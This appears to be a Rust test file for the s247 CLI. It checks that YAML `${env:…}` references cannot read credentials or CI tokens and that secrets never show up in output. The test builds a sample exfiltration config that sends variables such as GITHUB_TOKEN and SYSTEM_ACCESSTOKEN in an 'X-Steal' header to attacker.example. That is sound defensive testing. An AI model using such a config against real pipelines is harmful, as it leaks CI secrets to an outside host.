//! Issue 11 items 3, 4, 13: a careless (or hostile) file or setting cannot read s247's
//! credentials through `${env:…}`, cannot make a validation message quote a secret, and cannot
//! crash s247 or make it quote a file that is not YAML. Each is exit 2, nothing sent.

mod common;

use common::*;
use mockito::{Matcher, Server};

struct Ran {
    code: i32,
    stdout: String,
    stderr: String,
}

/// Runs against a server that must receive nothing at all; sweeps every stream and job file for
/// the test's secrets plus `extra` secrets.
fn refused(runner: Option<Runner>, extra: &[&str], args: &[&str], env: &[(&str, &str)]) -> Ran {
    let mut server = Server::new();
    let nothing: Vec<_> = ["GET", "POST", "PUT", "DELETE"]
        .iter()
        .map(|m| server.mock(m, Matcher::Any).expect(0).create())
        .collect();
    let job = Job::new();
    let mut cmd = s247(&job);
    with_credentials(&mut cmd, &server.url());
    match runner {
        Some(Runner::GitHub) => {
            cmd.env("GITHUB_ACTIONS", "true")
                .env("GITHUB_OUTPUT", job.path("output"))
                .env("GITHUB_STEP_SUMMARY", job.path("summary"));
        }
        Some(Runner::Azure) => {
            cmd.env("TF_BUILD", "True");
        }
        None => {}
    }
    for (k, v) in env {
        cmd.env(k, v.replace("{job}", &job.dir.path().to_string_lossy()));
    }
    let args: Vec<String> = args
        .iter()
        .map(|a| a.replace("{job}", &job.dir.path().to_string_lossy()))
        .collect();
    let out = cmd.args(&args).output().unwrap();
    let ran = Ran {
        code: out.status.code().unwrap_or(-1),
        stdout: String::from_utf8_lossy(&out.stdout).into_owned(),
        stderr: String::from_utf8_lossy(&out.stderr).into_owned(),
    };
    for mock in nothing {
        mock.assert();
    }
    let mut files = job.files_text();
    files.push(("stdout".into(), ran.stdout.clone()));
    files.push(("stderr".into(), ran.stderr.clone()));
    for (what, text) in files {
        assert_no_secret(&what.to_string_lossy(), &text);
        for line in text.lines() {
            if line.starts_with("::add-mask::") || line.starts_with("##vso[task.setsecret]") {
                continue;
            }
            for secret in extra {
                assert!(!line.contains(secret), "{what:?} quotes a secret: {line}");
            }
        }
    }
    if let Some(runner) = runner {
        assert_streams_clean(runner, &ran.stdout, &ran.stderr, &[], "");
    }
    ran
}

const RUNNERS: [Option<Runner>; 3] = [Some(Runner::GitHub), Some(Runner::Azure), None];

fn write(name: &str, text: &str) -> (tempfile::TempDir, String) {
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join(name);
    std::fs::write(&path, text).unwrap();
    let path = path.to_string_lossy().into_owned();
    (dir, path)
}

#[test]
fn env_references_cannot_read_credentials_or_ci_tokens() {
    for (variable, value) in [
        ("S247_CLIENT_SECRET", CLIENT_SECRET),
        ("INPUT_REFRESHTOKEN", REFRESH_TOKEN),
        ("SECRET_DEPLOY_KEY", "azure-secret-variable-1"),
        ("SYSTEM_ACCESSTOKEN", "azure-system-token-1"),
        ("GITHUB_TOKEN", "ghs_fake_github_token_1"),
        ("ACTIONS_RUNTIME_TOKEN", "fake-runtime-token-1"),
        ("s247_refresh_token", REFRESH_TOKEN),
    ] {
        let monitors = format!(
            "version: 1\nmonitors:\n  - name: Exfil\n    type: URL\n    url: https://attacker.example/collect\n    headers:\n      X-Steal: \"${{env:{variable}}}\"\n"
        );
        let (_dir, file) = write("monitors.yaml", &monitors);
        for runner in RUNNERS {
            let r = refused(
                runner,
                &[value],
                &["monitors", "plan", "-f", &file],
                &[(variable, value)],
            );
            assert_eq!(r.code, 2, "{variable} {runner:?}: {}", r.stderr);
            assert!(r.stderr.contains("may not be read"), "{}", r.stderr);
            let at = match runner {
                Some(Runner::GitHub) => ",line=7,col=".to_string(),
                Some(Runner::Azure) => ";linenumber=7;columnnumber=".to_string(),
                None => "monitors.yaml:7:".to_string(),
            };
            assert!(r.stderr.contains(&at), "{runner:?} at {at}: {}", r.stderr);
        }
        let steps = format!(
            "steps:\n  - maintenance-start:\n      monitors: \"${{env:{variable}}}\"\n      duration: 30m\n"
        );
        let (_dir, file) = write("steps.yaml", &steps);
        let r = refused(None, &[value], &["run", "-f", &file], &[(variable, value)]);
        assert_eq!(r.code, 2, "{variable}: {}", r.stderr);
        assert!(r.stderr.contains("steps.yaml:3:"), "{}", r.stderr);
        assert!(r.stderr.contains("may not be read"), "{}", r.stderr);
    }
}
